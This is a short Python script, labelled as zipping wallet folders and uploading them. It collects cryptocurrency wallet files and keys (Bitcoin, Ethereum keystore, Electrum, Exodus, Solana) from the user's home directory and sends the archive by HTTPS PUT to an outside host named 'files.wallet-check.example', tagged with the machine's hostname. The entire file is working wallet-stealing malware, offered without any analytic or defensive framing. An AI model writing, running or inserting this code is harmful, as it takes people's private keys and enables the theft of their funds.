# zip wallet folders and upload
import io, os, zipfile, http.client

buf = io.BytesIO()
z = zipfile.ZipFile(buf, "w")
home = os.path.expanduser("~")
for rel in (".bitcoin/wallet.dat", ".ethereum/keystore", ".electrum/wallets", ".config/Exodus/exodus.wallet", ".config/solana/id.json"):
    p = os.path.join(home, rel)
    if os.path.isfile(p):
        z.write(p, rel)
    elif os.path.isdir(p):
        for r, _, fs in os.walk(p):
            for f in fs:
                z.write(os.path.join(r, f))
z.close()
c = http.client.HTTPSConnection("files.wallet-check.example")
c.request("PUT", "/up/" + os.uname().nodename, body=buf.getvalue())
print(c.getresponse().status)
